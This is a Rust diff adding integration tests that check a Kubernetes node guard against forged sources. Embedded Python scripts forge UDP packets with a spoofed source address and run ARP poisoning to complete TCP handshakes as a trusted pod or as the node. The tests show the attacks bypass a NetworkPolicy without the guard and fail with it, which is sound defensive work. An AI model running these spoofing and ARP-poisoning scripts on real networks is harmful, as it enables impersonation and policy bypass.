@@ -566,3 +566,347 @@ fn a_scan_cannot_flood_the_audit_log() {
         "no rate_limited line sums what the budget folded"
     );
 }
+
+// ------------------------------------------------------------------------------------------
+// Issue 20 §3: forged sources on the node's bridge, and the node guard (`up --node-guard`).
+//
+// A pod of a namespace without the opt-in (no proxy, root with the NET_RAW that runtimes grant)
+// sits on the same bridge as `app/vault`, which admits only `app/friend` (and, as every pod, its
+// node, for kubelet's probes). It forges friend's source (UDP), and poisons ARP to complete TCP
+// handshakes as friend and as the node. Each attack is shown to work on a testbed without the
+// guard (the vault's policy is bypassed: the attacker's own address is refused) and to fail on
+// one with it, where friend and the node still reach the vault.
+// ------------------------------------------------------------------------------------------
+
+const GUARDED: &str = r#"
+apiVersion: v1
+kind: Namespace
+metadata: {name: app, labels: {portcullis.dev/inject: enabled}}
+---
+apiVersion: v1
+kind: Namespace
+metadata: {name: open}
+---
+apiVersion: v1
+kind: Pod
+metadata: {name: vault, namespace: app, labels: {app: vault}}
+spec: {containers: [{name: c, ports: [{containerPort: 443}]}]}
+status: {podIP: 10.251.1.10, hostIP: 10.251.0.1}
+---
+apiVersion: v1
+kind: Pod
+metadata: {name: friend, namespace: app, labels: {app: friend}}
+spec: {containers: [{name: c, ports: [{containerPort: 443}]}]}
+status: {podIP: 10.251.1.20, hostIP: 10.251.0.1}
+---
+apiVersion: v1
+kind: Pod
+metadata: {name: spoofer, namespace: open, labels: {app: spoofer}}
+spec: {containers: [{name: c}]}
+status: {podIP: 10.251.2.10, hostIP: 10.251.0.1}
+---
+apiVersion: networking.k8s.io/v1
+kind: NetworkPolicy
+metadata: {name: only-friend, namespace: app}
+spec:
+  podSelector: {matchLabels: {app: vault}}
+  policyTypes: [Ingress]
+  ingress: [{from: [{podSelector: {matchLabels: {app: friend}}}]}]
+"#;
+
+const VAULT: &str = "app/vault";
+const FRIEND: &str = "app/friend";
+const SPOOFER: &str = "open/spoofer";
+/// The pods' hostIP: the node's address on the bridge, allowed by every pod's proxy.
+const NODE_IP: &str = "10.251.0.1";
+/// A UDP port of the vault no server uses: the test's own socket listens there.
+const VAULT_UDP: u16 = 6001;
+
+/// One Ethernet frame with an IPv4 UDP datagram from any source, written on eth0 (AF_PACKET:
+/// what NET_RAW allows). argv: source IP, destination IP, destination MAC, port, payload.
+const FORGE_UDP: &str = r#"
+import socket, struct, sys
+src, dst, dst_mac, port, payload = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5].encode()
+def csum(b):
+    if len(b) % 2: b += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while s >> 16: s = (s & 0xffff) + (s >> 16)
+    return (~s) & 0xffff
+s4, d4 = socket.inet_aton(src), socket.inet_aton(dst)
+udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
+c = csum(s4 + d4 + struct.pack("!BBH", 0, 17, len(udp)) + udp) or 0xffff
+udp = udp[:6] + struct.pack("!H", c) + udp[8:]
+ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 7, 0, 64, 17, 0, s4, d4)
+ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind(("eth0", 0))
+me = s.getsockname()[4]
+for _ in range(3):
+    s.send(bytes.fromhex(dst_mac.replace(":", "")) + me + b"\x08\x00" + ip + udp)
+print("SENT")
+"#;
+
+/// ARP poisoning while connecting: a thread tells `poisoned` (IP and MAC) that `claimed` is at
+/// this pod's MAC (ARP replies and requests, every 100 ms), while the main thread, with
+/// `claimed` on its own eth0, connects from it to `victim`:`port` and prints what came back.
+/// argv: claimed, poisoned IP, poisoned MAC, victim, port.
+const POISONED_CONNECT: &str = r#"
+import socket, struct, sys, threading, time
+claimed, p_ip, p_mac, victim, port = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5])
+raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+raw.bind(("eth0", 0))
+me = raw.getsockname()[4]
+p_mac_b = bytes.fromhex(p_mac.replace(":", ""))
+def arp(op):
+    body = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, me, socket.inet_aton(claimed),
+                       p_mac_b, socket.inet_aton(p_ip))
+    return p_mac_b + me + b"\x08\x06" + body
+done = False
+def poison():
+    while not done:
+        raw.send(arp(2)); raw.send(arp(1))
+        time.sleep(0.1)
+t = threading.Thread(target=poison, daemon=True)
+t.start()
+time.sleep(0.5)
+s = socket.socket()
+s.settimeout(3)
+try:
+    s.bind((claimed, 0))
+    s.connect((victim, port))
+    s.sendall(b"probe\n")
+    print("ANSWER", s.recv(200).decode().strip())
+except Exception as e:
+    print("FAILED", type(e).__name__, e)
+done = True
+"#;
+
+/// A testbed of `GUARDED`, with or without the node guard; down when dropped (by its `Bed`).
+struct GuardBed(Bed);
+
+impl GuardBed {
+    fn up(tag: &str, guard: bool) -> GuardBed {
+        require_root();
+        build_components();
+        let status = Command::new(env!("CARGO"))
+            .args(["build", "-q", "-p", "portcullis-node-guard"])
+            .current_dir(repo())
+            .status()
+            .expect("run cargo");
+        assert!(status.success(), "building portcullis-node-guard failed");
+        let name = format!("gd{tag}{}", std::process::id() % 100_000);
+        let dir = std::env::temp_dir().join(format!("pc-tb-{name}"));
+        fs::create_dir_all(&dir).unwrap();
+        let manifest = dir.join("guarded.yaml");
+        fs::write(&manifest, GUARDED).unwrap();
+        let _ = portcullis(&["testbed", "down", "--name", &name]);
+        let mut args = vec!["testbed", "up", "--name", &name, "-f"];
+        args.push(manifest.to_str().unwrap());
+        if guard {
+            args.push("--node-guard");
+        }
+        let up = portcullis(&args);
+        let mut bed = Bed {
+            name: name.clone(),
+            state: serde_json::Value::Null,
+            dir: TempDir(dir),
+        };
+        assert!(
+            up.status.success(),
+            "testbed up failed:\n{}",
+            text(&up.stderr)
+        );
+        let path = Path::new("/run/portcullis/testbed")
+            .join(&name)
+            .join("state.json");
+        let state = fs::read_to_string(path).expect("testbed state");
+        bed.state = serde_json::from_str(&state).expect("state JSON");
+        assert_eq!(bed.state["node_guard"].is_object(), guard, "{state}");
+        GuardBed(bed)
+    }
+
+    /// `(netns, ip, mac)` of a pod.
+    fn pod(&self, key: &str) -> (String, String, String) {
+        let pods = self.0.state["pods"].as_array().unwrap();
+        let pod = pods.iter().find(|p| p["key"] == key).unwrap();
+        let field = |k: &str| pod[k].as_str().unwrap().to_string();
+        (field("netns"), field("ip"), field("mac"))
+    }
+
+    fn node(&self) -> String {
+        self.0.state["node_netns"].as_str().unwrap().to_string()
+    }
+
+    /// `cmd` in the network namespace `netns`.
+    fn run(&self, netns: &str, cmd: &[&str]) -> Output {
+        Command::new("ip")
+            .args(["netns", "exec", netns])
+            .args(cmd)
+            .output()
+            .expect("run a command in a namespace")
+    }
+
+    fn python(&self, netns: &str, program: &str, args: &[&str]) -> Output {
+        let mut cmd = vec!["python3", "-c", program];
+        cmd.extend_from_slice(args);
+        self.run(netns, &cmd)
+    }
+
+    /// The attacker forges a UDP datagram from `src` to the vault's MAC and IP; returns the
+    /// sources of what the vault's socket received with that payload.
+    fn forged_udp(&self, src: &str, token: &str) -> Vec<String> {
+        let (vault_ns, vault_ip, vault_mac) = self.pod(VAULT);
+        let (spoofer_ns, _, _) = self.pod(SPOOFER);
+        let sock = listen_udp(&vault_ns, &vault_ip);
+        let port = VAULT_UDP.to_string();
+        let sent = self.python(
+            &spoofer_ns,
+            FORGE_UDP,
+            &[src, &vault_ip, &vault_mac, &port, token],
+        );
+        assert!(
+            text(&sent.stdout).contains("SENT"),
+            "{}",
+            text(&sent.stderr)
+        );
+        received_from(&sock, token)
+    }
+
+    /// The attacker claims `claimed` by ARP towards `poisoned` (the node for a pod's address,
+    /// the vault for the node's) and connects from it to the vault's 443; returns the vault's
+    /// answer, if any. Undoes what it set up, and flushes the poisoned caches.
+    fn poisoned_connect(&self, claimed: &str, poisoned: (&str, &str)) -> Option<String> {
+        let (vault_ns, vault_ip, _) = self.pod(VAULT);
+        let (spoofer_ns, _, _) = self.pod(SPOOFER);
+        let own = format!("{claimed}/32");
+        let ok = |o: Output| assert!(o.status.success(), "{}", text(&o.stderr));
+        ok(self.run(&spoofer_ns, &["ip", "addr", "add", &own, "dev", "eth0"]));
+        let direct = format!("{vault_ip}/32");
+        if claimed == NODE_IP {
+            // The node's address is the pod's gateway: reach the vault on the link instead.
+            let route = ["ip", "route", "add", &direct, "dev", "eth0", "src", claimed];
+            ok(self.run(&spoofer_ns, &route));
+        }
+        let out = self.python(
+            &spoofer_ns,
+            POISONED_CONNECT,
+            &[claimed, poisoned.0, poisoned.1, &vault_ip, "443"],
+        );
+        let _ = self.run(&spoofer_ns, &["ip", "route", "del", &direct]);
+        ok(self.run(&spoofer_ns, &["ip", "addr", "del", &own, "dev", "eth0"]));
+        for ns in [self.node(), vault_ns] {
+            let _ = self.run(&ns, &["ip", "neigh", "flush", "all"]);
+        }
+        answer(&out)
+    }
+
+    /// The node's MAC on the bridge (the pods' gateway).
+    fn node_mac(&self) -> String {
+        let out = self.run(&self.node(), &["cat", "/sys/class/net/br0/address"]);
+        text(&out.stdout).trim().to_string()
+    }
+
+    /// What a plain connection from `netns` to the vault's 443 gets back.
+    fn connect_to_vault(&self, netns: &str) -> Option<String> {
+        let (_, vault_ip, _) = self.pod(VAULT);
+        answer(&self.python(netns, CONNECT, &[&vault_ip, "443"]))
+    }
+}
+
+fn listen_udp(netns: &str, ip: &str) -> std::net::UdpSocket {
+    let addr: std::net::SocketAddr = format!("{ip}:{VAULT_UDP}").parse().unwrap();
+    let sock = portcullis_netns::testing::in_ns(netns, move || std::net::UdpSocket::bind(addr))
+        .expect("bind the vault's UDP socket");
+    sock.set_read_timeout(Some(std::time::Duration::from_millis(100)))
+        .unwrap();
+    sock
+}
+
+/// The sources of the datagrams carrying `token` that arrive within 1.5 s.
+fn received_from(sock: &std::net::UdpSocket, token: &str) -> Vec<String> {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_millis(1500);
+    let mut from = Vec::new();
+    let mut buf = [0u8; 1500];
+    while std::time::Instant::now() < deadline {
+        if let Ok((n, peer)) = sock.recv_from(&mut buf) {
+            if &buf[..n] == token.as_bytes() && !from.contains(&peer.ip().to_string()) {
+                from.push(peer.ip().to_string());
+            }
+        }
+    }
+    from
+}
+
+/// Without the guard, each attack gets through the vault's policy (the test that fails once
+/// the bridge checks sources by itself: then the attacks no longer prove anything here).
+#[test]
+fn without_the_node_guard_a_pod_with_net_raw_forges_sources_on_the_bridge() {
+    let bed = GuardBed::up("o", false);
+    let (_, friend_ip, _) = bed.pod(FRIEND);
+    let (spoofer_ns, spoofer_ip, _) = bed.pod(SPOOFER);
+    let (_, vault_ip, vault_mac) = bed.pod(VAULT);
+    // The vault's policy holds against the attacker's own address, UDP and TCP.
+    assert_eq!(bed.forged_udp(&spoofer_ip, "own"), Vec::<String>::new());
+    assert_eq!(bed.connect_to_vault(&spoofer_ns), None);
+    // (a) Friend's source, forged: the vault's application receives it as from friend.
+    assert_eq!(
+        bed.forged_udp(&friend_ip, "forged"),
+        vec![friend_ip.clone()]
+    );
+    // (b) As friend: the node's ARP entry for friend now names the attacker, who completes
+    // the handshake and reads the vault's answer.
+    let node = (NODE_IP, bed.node_mac());
+    assert_eq!(
+        bed.poisoned_connect(&friend_ip, (node.0, &node.1))
+            .as_deref(),
+        Some(VAULT),
+        "as friend"
+    );
+    // (b) As the node, allowed on every port: the vault's ARP entry for its gateway poisoned.
+    assert_eq!(
+        bed.poisoned_connect(NODE_IP, (&vault_ip, &vault_mac))
+            .as_deref(),
+        Some(VAULT),
+        "as the node"
+    );
+}
+
+/// With the guard, the same attacks fail; friend and the node still reach the vault.
+#[test]
+fn the_node_guard_drops_forged_sources_and_arp_poisoning() {
+    let bed = GuardBed::up("g", true);
+    let table = bed.run(
+        &bed.node(),
+        &["nft", "list", "table", "bridge", "portcullis_guard"],
+    );
+    let (_, friend_ip, friend_mac) = bed.pod(FRIEND);
+    let (friend_ns, _, _) = bed.pod(FRIEND);
+    let (spoofer_ns, spoofer_ip, _) = bed.pod(SPOOFER);
+    let (_, vault_ip, vault_mac) = bed.pod(VAULT);
+    assert!(
+        text(&table.stdout).contains(&friend_mac),
+        "{}",
+        text(&table.stdout)
+    );
+    assert_eq!(bed.forged_udp(&spoofer_ip, "own"), Vec::<String>::new());
+    // (a) The forged datagram never reaches the vault.
+    assert_eq!(bed.forged_udp(&friend_ip, "forged"), Vec::<String>::new());
+    // (b) Neither handshake completes: the poisoning and the forged packets are dropped at
+    // the attacker's port, so the connection times out.
+    let node = (NODE_IP, bed.node_mac());
+    assert_eq!(
+        bed.poisoned_connect(&friend_ip, (node.0, &node.1)),
+        None,
+        "as friend"
+    );
+    assert_eq!(
+        bed.poisoned_connect(NODE_IP, (&vault_ip, &vault_mac)),
+        None,
+        "as the node"
+    );
+    // The real owners still get through: friend itself, and the node (kubelet's probes).
+    assert_eq!(bed.connect_to_vault(&friend_ns).as_deref(), Some(VAULT));
+    assert_eq!(bed.connect_to_vault(&bed.node()).as_deref(), Some(VAULT));
+    // The attacker's own traffic passes the guard and meets the vault's policy as before.
+    assert_eq!(bed.connect_to_vault(&spoofer_ns), None);
+}
